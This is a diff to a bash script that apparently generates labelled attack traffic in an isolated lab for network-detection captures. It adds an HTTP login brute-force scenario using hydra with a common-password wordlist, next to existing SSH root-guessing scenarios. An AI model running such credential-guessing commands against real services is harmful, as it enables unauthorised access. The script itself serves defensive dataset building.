@@ -128,7 +128,7 @@ PY
     tool lab_in c22 timeout 60 dig +tries=1 +time=1 -f "$WORK/dga.batch"
 }
 
-sc_brute_force_hydra() {
+make_wordlist() {
     printf '%s\n' 123456 password admin root toor letmein qwerty 12345678 111111 abc123 \
         password1 1234 iloveyou 000000 changeme welcome monkey dragon master sunshine \
         princess football shadow superman trustno1 passw0rd secret hello admin123 debian \
@@ -136,6 +136,8 @@ sc_brute_force_hydra() {
         qwerty123 1q2w3e4r admin1 pass123 alpine vagrant oracle postgres administrator \
         zaq12wsx 654321 7777777 123123 abcd1234 baseball access hunter2 michael jordan \
         summer2024 Winter2025 company corp2025 >"$WORK/words.txt"
+}
+sc_brute_force_hydra() {
     # -w 5: hydra otherwise waits 32 s for every connection sshd closed after MaxAuthTries.
     tool lab_in att timeout 90 hydra -l root -P "$WORK/words.txt" -t 4 -w 5 -I -q "ssh://$SRV"
 }
@@ -145,6 +147,12 @@ sc_brute_force_sshpass() {
         tool lab_in att timeout 10 sshpass -p "guess$i" ssh "${SSH_NOASK[@]}" -o PubkeyAuthentication=no \
             -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 "root@$SRV" true
     done
+}
+
+# Web login form guessing: every POST /login is answered 401.
+sc_brute_force_http() {
+    tool lab_in att timeout 60 hydra -l admin -P "$WORK/words.txt" -t 4 -w 5 -I -q "$SRV" http-post-form \
+        '/login:user=^USER^&pass=^PASS^:F=Login failed'
 }
 
 # 200 MB over HTTPS from an internal client to one external host.
@@ -218,7 +226,11 @@ sc_benign_iperf3() {
 sc_benign_mqtt() {
     lab_in c21 timeout 20 mosquitto_sub -h "$SRV" -t 'sensors/#' -C 60 >>"$PCAPS/tools.log" 2>&1 &
     local sub=$!
-    sleep 0.3  # the subscription must be in place before the first publish
+    # The subscriber must be connected before the first publish (bounded wait).
+    for _ in $(seq 1 100); do
+        lab_in c21 ss -Htn state established "dport = :1883" | grep -q . && break
+        sleep 0.05
+    done
     tool lab_in c20 sh -c "for i in \$(seq 1 50); do echo \"{\\\"temp\\\": 2\$((i % 10)).5, \\\"seq\\\": \$i}\"; sleep 0.05; done \
         | timeout 15 mosquitto_pub -h $SRV -t sensors/room1/temp -l"
     local i
@@ -231,6 +243,8 @@ sc_benign_redis() {
         echo 'INCR hits'; done | timeout 15 redis-cli -h $SRV"
     tool lab_in c21 timeout 30 redis-benchmark -h "$SRV" -q -n 2000 -c 4 -t set,get,lpush
 }
+
+make_wordlist
 
 # ---- runner ----------------------------------------------------------------------------------
 
@@ -283,6 +297,7 @@ scenario dns_tunnel dns_tunnel "$LAB_NET.21" - "src host $LAB_NET.21 and udp dst
 scenario nxdomain_storm nxdomain_storm "$LAB_NET.22" - "udp src port 53 and udp[11] & 0x0f == 3" 290
 scenario brute_force_hydra brute_force "$ATT" "$SRV" "src host $ATT and $SYN and tcp dst port 22" 10
 scenario brute_force_sshpass brute_force "$ATT" "$SRV" "src host $ATT and $SYN and tcp dst port 22" 20
+scenario brute_force_http brute_force "$ATT" "$SRV" "src host $ATT and tcp dst port 80 and $PAYLOAD:4]==0x504f5354" 30
 scenario exfiltration_https exfiltration "$LAB_NET.20" "$LAB_EXT_IP" "src host $LAB_NET.20 and dst host $LAB_EXT_IP and greater 1000" 100000
 scenario lateral_movement lateral_movement "$LAB_NET.20" - \
     "src host $LAB_NET.20 and $SYN and (tcp dst port 22 or tcp dst port 445 or tcp dst port 3389)" 75
